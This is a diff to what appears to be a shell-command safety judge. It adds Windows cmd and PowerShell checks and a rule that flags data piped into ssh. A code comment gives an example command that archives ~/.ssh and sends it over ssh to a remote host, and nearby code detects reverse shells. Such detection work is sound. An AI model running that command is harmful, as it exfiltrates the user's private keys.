@@ -15,7 +15,7 @@ import type { BashParser } from "./shell-parser.js";
 import { riskRank, type RiskLevel } from "./types.js";
 import { unwrapCommand } from "./unwrap.js";
 import type { CompiledUserRule } from "./user-policy.js";
-import { tokeniseWindows } from "./windows-commands.js";
+import { judgeCmd, judgePowerShell, tokeniseWindows } from "./windows-commands.js";
 
 /** One reason with its level, before reasons are merged. */
 export interface Finding {
@@ -159,6 +159,30 @@ export class ScriptJudge {
         });
       }
       if (this.judgeNested(script, shell === "fish" ? "bash" : shell, nested, findings)) failClosed = true;
+    }
+    for (const script of unwrapped.windowsScripts) {
+      const tokens = tokeniseWindows(script.text, script.dialect);
+      tokens.statements.forEach((statement, index) => {
+        findings.push(
+          ...(script.dialect === "cmd"
+            ? judgeCmd(statement)
+            : judgePowerShell(statement, tokens.statements[index - 1])),
+        );
+      });
+    }
+    if (unwrapped.remote && command.stdinFrom.length > 0) {
+      // `tar cz ~/.ssh | ssh host 'cat > x'`: what flows into ssh leaves the machine.
+      const sender: CommandContext = {
+        name: "ssh",
+        args: [],
+        redirects: [],
+        stdinFrom: command.stdinFrom,
+        stdinText: command.stdinText,
+        elevated,
+        remote: true,
+      };
+      for (const rule of RULE_INDEX.get("ssh") ?? [])
+        if (rule.matches?.(sender) === true) findings.push(findingOf(rule, sender));
     }
     if (unwrapped.reverseShell) {
       findings.push({
